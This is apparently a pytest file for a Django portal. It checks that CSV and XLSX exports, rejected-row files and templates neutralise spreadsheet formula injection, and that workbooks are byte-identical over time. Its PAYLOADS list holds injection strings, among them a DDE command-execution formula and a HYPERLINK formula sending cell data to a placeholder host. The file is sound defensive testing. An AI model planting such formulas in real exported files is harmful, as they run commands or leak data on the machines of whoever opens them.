"""Every CSV and XLSX the portal writes keeps data from becoming a formula, and an XLSX is the
same bytes for the same data (pmks_portal/spreadsheets.py).

Payloads are planted in the text fields that the case and KUBE exports, the rejected-rows files
and the import template carry; each file is downloaded as a user would and read back with the
csv module or openpyxl: no cell may be a formula or begin like one.
"""

import csv
import io
from datetime import datetime

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from cases import importing
from cases.models import Category, Person
from kube.models import Kube
from pmks_portal import spreadsheets
from tests.bodies import response_bytes
from tests.cases.test_import import csv_bytes, row, upload
from tests.helpers import client_for
from tests.test_access_matrix import Context, _case, _kube

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def starts_a_formula(value) -> bool:
    if not isinstance(value, str):
        return False
    return value.startswith(spreadsheets.FORMULA_START) and value not in ("-",)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_would_start_a_formula_gets_an_apostrophe(payload):
    assert spreadsheets.neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-", "-2500000.00", "-12", "Siti", 12, None, "6472********7777"])
def test_numbers_dashes_and_plain_text_are_left_alone(value):
    assert spreadsheets.neutralise(value) == value


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes) -> list:
    """Every cell of every sheet, formulas kept as formulas (not their cached values)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]


def assert_no_formula_in_csv(data: bytes, planted: list[str]) -> None:
    cells = [value for line in csv_cells(data) for value in line]
    assert not [value for value in cells if starts_a_formula(value)]
    for payload in planted:
        assert "'" + payload in cells, f"{payload!r} is not in the file"


def assert_no_formula_in_xlsx(data: bytes, planted: list[str]) -> None:
    cells = xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    values = [c.value for c in cells]
    assert not [value for value in values if starts_a_formula(value)]
    for payload in planted:
        # XML reads a carriage return back as a line feed (XML 1.0, 2.11).
        assert "'" + payload.replace("\r", "\n") in values, f"{payload!r} is not in the workbook"


@pytest.fixture
def planted(personas, settings, tmp_path):
    """A case and a KUBE of Samarinda whose text fields carry the payloads."""
    settings.MEDIA_ROOT = tmp_path
    ctx = Context(personas)
    case = _case("64.72")(ctx)
    kube = _kube("64.72")(ctx)
    # Names lose tabs and line breaks when typed (cases.services); the other fields keep them.
    Person.objects.filter(pk=case.person_id).update(name=PAYLOADS[0])
    Category.objects.filter(pk=case.category_id).update(name=PAYLOADS[5], code=PAYLOADS[4])
    Kube.objects.filter(pk=kube.pk).update(
        name=PAYLOADS[1],
        business_description=PAYLOADS[2],
        sk_number=PAYLOADS[3],
        bank_name=PAYLOADS[6],
    )
    return personas["samarinda_staff"]


CASE_PAYLOADS = [PAYLOADS[0], PAYLOADS[4], PAYLOADS[5]]
KUBE_PAYLOADS = [PAYLOADS[1], PAYLOADS[2], PAYLOADS[3], PAYLOADS[6]]


@pytest.mark.parametrize(
    ("url_name", "query", "payloads"),
    [
        ("cases:export", "format=csv", CASE_PAYLOADS),
        ("cases:export", "format=xlsx", CASE_PAYLOADS),
        ("kube:export", "format=csv", KUBE_PAYLOADS),
        ("kube:export", "format=xlsx", KUBE_PAYLOADS),
        ("kube:export", "what=reports&format=csv", [PAYLOADS[1]]),
        ("kube:export", "what=reports&format=xlsx", [PAYLOADS[1]]),
    ],
)
def test_every_export_neutralises_formulas(planted, url_name, query, payloads):
    response = client_for(planted).get(f"{reverse(url_name)}?{query}")
    assert response.status_code == 200
    data = response_bytes(response)
    if "xlsx" in query:
        assert_no_formula_in_xlsx(data, payloads)
    else:
        assert_no_formula_in_csv(data, payloads)


def test_the_rejected_rows_files_neutralise_formulas(samarinda_staff):
    values = [PAYLOADS[0], PAYLOADS[3]]
    batch = upload(
        samarinda_staff,
        csv_bytes([row(nama=values[0], alamat=values[1], kategori="XYZ")]),
    )
    assert_no_formula_in_csv("".join(importing.rejected_csv_lines(batch)).encode(), values)
    buffer = io.BytesIO()
    importing.write_rejected_xlsx(batch, buffer)
    assert_no_formula_in_xlsx(buffer.getvalue(), values)


def test_the_import_template_lists_a_category_name_as_text(samarinda_staff):
    Category.objects.filter(pk=Category.objects.order_by("pk").first().pk).update(name=PAYLOADS[0])
    response = client_for(samarinda_staff).get(reverse("cases:import-template"))
    cells = xlsx_cells(response_bytes(response))
    # The template's own lists are data validations, not cells; no cell is a formula.
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + PAYLOADS[0] in [c.value for c in cells]


def test_the_same_data_gives_the_same_workbook_bytes_at_another_time():
    def build() -> bytes:
        book = spreadsheets.table_workbook("Kasus", ["Nama", "Jumlah"], [["Siti", 3], PAYLOADS[:2]])
        return spreadsheets.xlsx_bytes(book)

    with time_machine.travel(datetime(2026, 3, 1, 8, 0), tick=False):
        first = build()
    with time_machine.travel(datetime(2026, 9, 17, 23, 59), tick=False):
        second = build()
    assert first == second
    book = openpyxl.load_workbook(io.BytesIO(first))
    assert book.properties.created == book.properties.modified == spreadsheets.STAMP


def test_the_participant_template_is_the_same_bytes_every_time(provincial_officer):
    client = client_for(provincial_officer)
    url = reverse("rakornis:participant-template")
    with time_machine.travel(datetime(2026, 3, 1, 8, 0), tick=False):
        first = response_bytes(client.get(url))
    with time_machine.travel(datetime(2026, 3, 1, 8, 5), tick=False):
        second = response_bytes(client.get(url))
    assert first == second and first.startswith(b"PK")
